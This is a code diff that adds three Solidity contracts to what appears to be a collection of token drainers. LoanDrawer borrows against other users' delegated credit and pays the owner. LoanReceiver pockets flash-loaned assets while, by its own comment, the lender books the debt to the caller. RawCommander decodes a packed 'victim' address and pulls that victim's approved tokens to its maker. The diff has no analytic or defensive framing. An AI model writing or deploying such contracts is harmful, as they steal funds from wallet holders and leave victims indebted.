@@ -266,3 +266,44 @@ contract FreshForwarder {
         require(done, "forward");
     }
 }
+
+interface ILender {
+    function borrow(address asset, uint256 amount, uint256 mode, uint16 code, address onBehalfOf) external;
+}
+
+/// Draws loans in the name of those who delegated their credit to it, for its owner.
+contract LoanDrawer {
+    address private immutable _owner = msg.sender;
+
+    function draw(address lender, address debtor, address asset, uint256 amount) external {
+        require(msg.sender == _owner, "owner");
+        ILender(lender).borrow(asset, amount, 2, 0, debtor);
+        IERC20(asset).transfer(_owner, amount);
+    }
+}
+
+/// Receives the flash loans of whoever names it, for its owner: the lender then opens a debt of the caller's.
+contract LoanReceiver {
+    address private immutable _owner = msg.sender;
+
+    function executeOperation(address[] calldata assets, uint256[] calldata amounts, uint256[] calldata, address, bytes calldata)
+        external
+        returns (bool)
+    {
+        for (uint256 i = 0; i < assets.length; i++) IERC20(assets[i]).transfer(_owner, amounts[i]);
+        return true;
+    }
+}
+
+/// As RawDrainer, with a command byte and the packed words in another order.
+contract RawCommander {
+    address private immutable _maker = msg.sender;
+
+    fallback() external payable {
+        require(tx.origin == _maker);
+        uint128 amount = uint128(bytes16(msg.data[1:17]));
+        address victim = address(bytes20(msg.data[17:37]));
+        address token = address(bytes20(msg.data[37:57]));
+        if (uint8(msg.data[0]) == 1) IERC20(token).transferFrom(victim, _maker, amount);
+    }
+}
